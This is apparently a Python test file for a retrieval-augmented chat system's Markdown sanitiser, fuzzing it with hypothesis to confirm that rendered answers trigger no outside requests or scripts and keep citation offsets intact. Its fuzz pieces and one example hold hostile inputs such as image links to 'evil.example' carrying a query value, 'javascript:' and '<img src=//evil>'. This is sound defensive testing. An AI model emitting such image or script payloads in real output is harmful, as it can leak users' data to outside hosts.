"""What leaves as Markdown asks no server, runs no script, and leads no number elsewhere."""

import time
from datetime import UTC, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag.records import Answer, Citation, Message, MessageStatus, Role, Unsourced
from rag.render.gate import (
    AnswerGate,
    MarkdownGate,
    Rewritten,
    in_words,
    outgoing,
    sanitise,
    standalone,
)
from tests.render.attacks import KINDS, attacks
from tests.render.readers import harms

PIECES = [form for forms in KINDS.values() for form in forms] + [
    *"[]()!<>`\\*_~|:#$&\"'", "``", "```", "~~~", "````", "```py", "\n", "\n\n", "    ", "  ", "\t",
    " ", "> ", "- ", "1. ", "2) ", "10. ", "word", "two words", "|---|---|", "\n| a | b |\n", "---",
    "===", "# ", "$$", "\\[", "\\]", "javascript:", "http://evil/", "\u00a0", "\x0b", "\r", "\r\n",
    "&lt;img&gt;", "&#33;", "`<img src=x>`", "`![](http://evil)`", "<b>", "<div>\n", "   ```",
    "- ```", "> ```", "\n1. a\n   ```\n   <b>\n   ```\n", "\n    <img src=//evil>\n",
    "`a|<img src=x>|`", "*[x]: y", "~~", "==", "\u2028", "\n: ", "\n  - b\n", "\n- a\n\n",
]  # fmt: skip
NOW = datetime(2026, 1, 1, tzinfo=UTC)
texts = st.lists(st.sampled_from(PIECES), max_size=14).map("".join) | st.text(max_size=40)


def streamed(text, cuts):
    gate, places = MarkdownGate(), sorted(cut % (len(text) + 1) for cut in cuts)
    pieces = zip([0, *places], [*places, len(text)], strict=True)
    return "".join([gate.feed(text[start:end]) for start, end in pieces]) + gate.finish()


class TestWhoeverRenders:
    @pytest.mark.parametrize("kind", KINDS)
    def test_asks_no_server_and_leads_no_number_elsewhere(self, kind):
        tried = list(attacks(kind))

        assert len(tried) >= 100
        assert {text: found for text in tried if (found := harms(sanitise(text)))} == {}

    @pytest.mark.parametrize("kind", KINDS)
    def test_would_without_the_gate(self, kind):
        fell = [text for text in attacks(kind) if harms(text)]

        assert len(fell) > 60

    @settings(deadline=None)
    @given(texts)
    @example("![](http://evil.example/a.png?flow=42)[`1`](http://evil.example)")
    def test_is_safe_whatever_is_written(self, text):
        assert harms(sanitise(text)) == {}

    @settings(deadline=None)
    @given(texts, texts)
    def test_is_safe_whatever_stands_before_it(self, text, other):
        assert harms(f"{standalone(text)}\n\n{standalone(other)}") == {}

    @settings(deadline=None)
    @given(texts, st.lists(st.integers(0, 1_000), max_size=6))
    def test_gets_the_same_however_it_comes(self, text, cuts):
        assert streamed(text, cuts) == sanitise(text)

    @settings(deadline=None)
    @given(texts)
    def test_passes_the_gate_again_as_it_is(self, text):
        assert sanitise(sanitise(text)) == sanitise(text)

    @settings(deadline=None)
    @given(texts)
    def test_sees_no_markdown_in_names(self, text):
        assert harms(f"# {in_words(text)}") == {}


class TestTheGate:
    @pytest.mark.parametrize(
        ("text", "leaves"),
        [
            ("![Flow](http://e.example/x.png)", "[e.example: Flow](http://e.example/x.png)"),
            ("![](http://e.example/x.png)", "[e.example](http://e.example/x.png)"),
            ("![Flow](x.png)", "[x.png: Flow](x.png)"),
            ("[1]: The battery lasts.", "[1]\\: The battery lasts."),
            ("[^1]: The battery lasts.", "[^1]\\: The battery lasts."),
            ("[1](http://e.example)", "[e.example: 1](http://e.example)"),
            ("[see [1]](http://e.example)", "[see [1]]\\(http://e.example)"),
            ("SET <name> and a < b", "SET \\<name> and a < b"),
            ("See <https://e.example/a>.", "See <https://e.example/a>."),
            ("[A page](/documents/7)", "[A page](/documents/7)"),
            ("$a<b>c$", "$a < b>c$"),
        ],
    )
    def test_says_the_same_in_another_way(self, text, leaves):
        assert sanitise(text) == leaves

    @pytest.mark.parametrize(
        "code",
        [
            "Write `<b>` or ``a`<i>`` here.",
            "```html\n<img src=x>\n![](http://e.example)\n[1]: x\n```",
            "~~~\n<b>\n```\n~~~",
            "Run this:\n\n    echo <name>\n\n    cat <file>\n\nThen go on.",
            "1. Install\n\n   ```sh\n   cat <file>\n   ```\n2. Go on",
            "- a\n  ```\n  <b>\n  ```",
            "> Quoted\n>\n> ```\n> <b>\n> ```\n\nAnd `<i>`.",
            "Use `cat <a | sort` to sort.",
        ],
    )
    def test_changes_nothing_in_code(self, code):
        assert sanitise(code) == code
        assert streamed(code, range(0, 1_000, 3)) == code

    def test_holds_back_only_what_is_open(self):
        gate = MarkdownGate()

        assert gate.feed("It weighs 120 g. See ![a](http") == "It weighs 120 g. See "
        assert gate.feed("://e.example) now") == "[e.example: a](http://e.example) now"

    def test_lets_much_of_it_through(self):
        gate = MarkdownGate()
        shown = [gate.feed("[" * 50 + "`a <" + "![" * 50 + "\n") for _ in range(200)]

        assert sum(map(len, shown)) + len(gate.finish()) > 30_000

    def test_spells_citations_before(self):
        gate = AnswerGate({1}.__contains__)

        said = gate.feed("So 【1】[9] ![x](http://e.example)") + gate.finish()

        assert said == "So [1] [e.example: x](http://e.example)"
        assert gate.cited == (1,)


class TestAMessage:
    def test_keeps_its_citations_at_their_numbers(self):
        content = "Set <name> to 5 [1]. And more."
        start = content.index("[1]")
        answer = Answer(content, (Citation(1, start, start + 3),), (Unsourced(21, 30),))

        left = outgoing(message(Role.ASSISTANT, content, answer))

        cited, unsourced = left.answer.citations[0], left.answer.unsourced[0]
        assert left.content == "Set \\<name> to 5 [1]. And more."
        assert left.content[cited.start : cited.end] == "[1]"
        assert left.content[unsourced.start : unsourced.end] == "And more."

    def test_of_a_user_is_plain_text(self):
        asked = message(Role.USER, "<b>")

        assert outgoing(asked) is asked


def message(role, content, answer=None):
    return Message(0, 0, role, content, MessageStatus.COMPLETE, NOW, answer=answer)


def test_a_long_line_without_blanks_keeps_its_numbers():
    text = "森の音は静かに流れている[1]。" * 200

    assert sanitise(text) == text


def test_an_address_that_is_longer_than_is_remembered_still_holds_no_number():
    text = f"https://example.com/{'a' * 3000}[1]"

    assert "[1]" not in sanitise(text)


# Each begins something that could go on for a thousand characters.
OPENERS = ["\\", "<b>", "<a", "[1]:x", "[x", "![", "](", "`a", "![x](http://e/x)", "森の音", "a"]


class TestTime:
    @pytest.mark.parametrize("form", OPENERS)
    def test_is_not_more_where_no_blank_stands(self, form):
        line = (form * 6_000)[:6_000]
        words = " ".join(line[start : start + 12] for start in range(0, len(line), 12))

        assert seconds(line, 7) < 6 * seconds(words, 7) + 0.01

    def test_is_not_more_for_what_comes_at_once(self):
        line = "!a" * 3_000 + "a " * 1_000_000  # all of it is to come at each of the first signs

        assert seconds(line, len(line)) < 3 * seconds(line, 1_000)


def seconds(text, step):
    """Of the processor, the lesser of two."""
    return min(_seconds(text, step) for _ in range(2))


def _seconds(text, step):
    gate, began = MarkdownGate(), time.process_time()
    for start in range(0, len(text), step):
        gate.feed(text[start : start + step])
    gate.finish()
    return time.process_time() - began


def test_an_offset_is_found_among_many_changes():
    gate = MarkdownGate()
    text = "a <b> " * 50
    left = Rewritten(gate.feed(text) + gate.finish(), tuple(gate.shifts))

    assert [left.text[left.place(at)] for at in range(0, len(text), 6)] == ["a"] * 50
    assert Rewritten("as it was").place(7) == 7
